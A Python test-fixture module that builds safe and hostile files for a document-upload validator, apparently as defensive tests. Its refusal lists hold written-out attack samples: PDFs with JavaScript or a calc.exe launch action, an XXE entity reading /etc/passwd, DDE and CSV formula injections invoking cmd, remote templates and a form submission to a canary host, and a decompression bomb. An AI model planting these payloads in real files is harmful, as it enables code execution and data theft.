"""Files for tests: proper ones, polyglots and what nobody should be able to keep (G-IO4)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.imports import workbooks

SCRIPT = b"<script>fetch('/canary/')</script>"
MB = 1024 * 1024
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_TYPES = workbooks.TYPES.replace("/xl/workbook.xml", "/word/document.xml").replace(
    "spreadsheetml.sheet.main", "wordprocessingml.document.main"
)
DOCX_RELATIONS = workbooks.RELATIONS.replace("xl/workbook.xml", "word/document.xml")


def pdf(change=None, *, header=b"", **options):
    """One empty page, changed before it is written; `header` goes into a comment of line two."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(100, 100))
        if change:
            change(document)
        made = io.BytesIO()
        if "encryption" not in options:
            options["deterministic_id"] = True
        document.save(made, **options)
    content = made.getvalue()
    return content.replace(b"\n%", b"\n%" + header + b"\n%", 1) if header else content


def picture(kind="PNG", size=(8, 6), mode="RGB", **options):
    """A picture of one colour."""
    made = io.BytesIO()
    Image.new(mode, size, "teal" if mode == "RGB" else 0).save(made, kind, **options)
    return made.getvalue()


def huge_png(side=10_000):
    """A hundred million white pixels in a few kilobytes."""
    packer = zlib.compressobj(9)
    row = b"\x00" + bytes(side // 8)
    rows = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in parts
    )


def xlsx(**parts):
    """A workbook of one sheet, with parts of its own."""
    return workbooks.by_hand(**parts)


def docx(body="<w:p><w:r><w:t>Договор</w:t></w:r></w:p>", *, more=None, types=DOCX_TYPES, links=""):
    """A text of one paragraph; `links` are relations of the document."""
    relations = (
        workbooks.BOOK_RELATIONS.partition("<Relationship Id")[0] + f"{links}</Relationships>"
    )
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": DOCX_RELATIONS,
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations,
        **(more or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def link(kind, target, *, outside=True):
    """A relation of a document to something."""
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def with_script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_hidden_script(document):
    """An action of an annotation, deep in direct objects."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([note])


def with_program(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def with_form_that_sends(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://canary.test/")
    document.pages[0].AA = pikepdf.Dictionary(O=action)


def with_file(document):
    document.attachments["x.exe"] = b"MZ"


def with_link(document):
    """What every second PDF has: an address to click at."""
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.com/")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([note])


LOCKED = pikepdf.Encryption(owner="o", user="u")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FIELD = (
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>"
)
BOMB = docx(more={"word/media/image1.bin": bytes(2 * MB)})
DDE_BOOK = {
    "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"
}

# Nothing of it may be kept: name of the case → (name of the file, content).
REFUSED = {
    "pHaR": ("x.pHaR", picture("JPEG")),
    "php.jpg": ("x.php.jpg", picture("JPEG")),
    "exe.pdf": ("акт.EXE.pdf", pdf()),
    "svg": ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "html": ("x.html", b"<html>" + SCRIPT),
    "hta": ("x.hta", b"<hta:application>"),
    "lnk": ("x.lnk", b"L\x00\x00\x00"),
    "exe": ("x.exe", b"MZ" + bytes(100)),
    "docm": ("x.docm", docx()),
    "archive": ("x.zip", docx()),
    "without an extension": ("договор", pdf()),
    "only an extension": (".pdf", b""),
    "EICAR": ("eicar.com", EICAR),
    "EICAR as PDF": ("eicar.pdf", EICAR),
    "0 bytes": ("x.pdf", b""),
    "HTML as PDF": ("x.pdf", b"<html>" + SCRIPT),
    "HTML before PDF": ("x.pdf", SCRIPT + pdf()),
    "PDF of markup only": ("x.pdf", b"%PDF-1.4\n<html>" + SCRIPT),
    "PDF cut": ("x.pdf", pdf()[:60]),
    "PDF with a password": ("x.pdf", pdf(encryption=LOCKED)),
    "PDF with a script": ("x.pdf", pdf(with_script)),
    "PDF with a hidden script": ("x.pdf", pdf(with_hidden_script)),
    "PDF with a script in a packed object": (
        "x.pdf",
        pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "PDF that starts a program": ("x.pdf", pdf(with_program)),
    "PDF that sends a form": ("x.pdf", pdf(with_form_that_sends)),
    "PDF with a file": ("x.pdf", pdf(with_file)),
    "GIF with a script as JPEG": ("x.jpg", b"GIF89a/*" + SCRIPT),
    "PNG as JPEG": ("x.jpg", picture()),
    "JPEG cut": ("x.jpg", picture("JPEG", (300, 300))[:400]),
    "JPEG of noise": ("x.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8),
    "PNG of 100 megapixels": ("x.png", huge_png()),
    "DOCX as XLSX": ("x.xlsx", docx()),
    "XLSX as DOCX": ("x.docx", xlsx()),
    "a bare archive": ("x.docx", b"PK\x03\x04" + bytes(200)),
    "DOCX bomb": ("x.docx", BOMB),
    "DOCX with macros": ("x.docx", docx(more={"word/vbaProject.bin": b"x"})),
    "DOCX of a macro type": (
        "x.docx",
        docx(
            types=DOCX_TYPES.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        ),
    ),
    "DOCX with renamed macros": (
        "x.docx",
        docx(more={"word/a.bin": b"x"}, links=link("vbaProject", "a.bin", outside=False)),
    ),
    "DOCX with an object": (
        "x.docx",
        docx(more={"word/a.bin": b"x"}, links=link("oleObject", "a.bin", outside=False)),
    ),
    "DOCX with a page inside": (
        "x.docx",
        docx(more={"word/a.html": SCRIPT}, links=link("aFChunk", "a.html", outside=False)),
    ),
    "DOCX with a template of the net": (
        "x.docx",
        docx(links=link("attachedTemplate", "https://canary.test/x.dotm")),
    ),
    "DOCX with a template of a share": (
        "x.docx",
        docx(links=link("attachedTemplate", "file:///\\\\canary.test\\x.dotm")),
    ),
    "DOCX with DDE in a torn field": ("x.docx", docx(FIELD)),
    "DOCX with an entity": (
        "x.docx",
        docx(
            more={"word/a.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
        ),
    ),
    "DOCX with a page at its end": ("x.docx", docx() + SCRIPT),
    "DOCX that is not XML": ("x.docx", docx("<w:p>")),
    "XLSX with macros": ("x.xlsx", xlsx(more={"xl/vbaProject.bin": "x"})),
    "XLSX with DDE": ("x.xlsx", xlsx(more=DDE_BOOK)),
}
TEMPLATE = "file:///C:\\Users\\user\\AppData\\Templates\\Договор.dotx"
# What must be kept, polyglots among it: name of the case → (name of the file, content).
KEPT = {
    "PDF": ("Договор № 5.PDF", pdf()),
    "PDF with a link": ("x.pdf", pdf(with_link)),
    "PDF with markup in a comment": ("x.pdf", pdf(header=SCRIPT)),
    "PDF with markup at its end": ("x.pdf", pdf() + SCRIPT),
    "JPEG": ("фото.jpeg", picture("JPEG")),
    "JPEG with a comment": ("x.jpg", picture("JPEG", comment=SCRIPT)),
    "JPEG with markup at its end": ("x.jpg", picture("JPEG") + b"<?php ?>" + SCRIPT),
    "PNG": ("скан.png", picture()),
    "PNG with markup at its end": ("x.png", picture() + SCRIPT),
    "PNG with transparency": ("x.png", picture(mode="RGBA")),
    "PNG of two colours": ("x.png", picture(mode="1")),
    "XLSX": ("отчёт.xlsx", xlsx()),
    "DOCX": ("договор.docx", docx()),
    "DOCX with a link": ("x.docx", docx(links=link("hyperlink", "https://example.com/"))),
    "DOCX with the table of a chart": (
        "x.docx",
        docx(more={"word/a.xlsx": xlsx()}, links=link("package", "a.xlsx", outside=False)),
    ),
    "DOCX with a template of its own": ("x.docx", docx(links=link("attachedTemplate", TEMPLATE))),
}
ROW = "10.10.2026;Оплата № 5 (аванс);-1 000,00;+7 (912) 345-67-89;- без НДС\r\n"
TABLES = {
    "UTF-8": ROW.encode(),
    "UTF-8 with its mark": ROW.encode("utf-8-sig"),
    "Windows": ROW.encode("cp1251"),
    "UTF-16": ROW.encode("utf-16"),
    "leading zeros as spreadsheets keep them": b'="0012";5\n',
    "separated by bars": b"5|-100|x\n6|7|y!\n",
}
NO_TABLES = {
    "0 bytes": b"",
    "a program": b"MZ;" + bytes(100),
    "EICAR": EICAR,
    "a page": b"<html>;" + SCRIPT,
    "a page after a mark": b"\xef\xbb\xbf \n<script>;</script>",
    "a script of a shell": b"#!/bin/sh\ncat a,b\n",
    "a PDF": pdf(),
    "an archive": docx(),
    "binary": b"a;b\n\x00\x01\x02",
    "UTF-16 cut": ROW.encode("utf-16")[:-1],
    "DDE": b"a;=cmd|'/C calc'!A0\n",
    "DDE in quotes": b"a,\"  +cmd|' /C calc'!A0\"\n",
    "a formula that fetches": b'a;=HYPERLINK("https://canary.test/")\n',
    "a formula by its full-width sign": "a;\uff1dWEBSERVICE(A1)\n".encode(),
    "a formula at a mail sign": b"@SUM(A1:A9),5\n",
}
